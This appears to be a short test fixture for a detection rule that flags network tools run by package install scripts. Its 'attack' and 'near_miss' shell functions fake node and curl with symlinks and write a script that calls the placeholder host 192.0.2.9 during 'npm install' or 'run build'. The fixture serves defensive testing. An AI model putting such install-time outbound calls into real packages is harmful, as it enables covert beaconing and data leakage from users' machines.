# rule: Network tool run by an install script
# where: host
attack() {
    ln -s /bin/sh node
    echo 'ln -s /bin/true curl; ./curl -s https://192.0.2.9/?u=build; :' > npm-cli.js
    ./node npm-cli.js install
}
near_miss() {
    ln -s /bin/sh node
    echo 'ln -s /bin/true curl; ./curl -s https://192.0.2.9/?u=build; :' > npm-cli.js
    ./node npm-cli.js run build
}
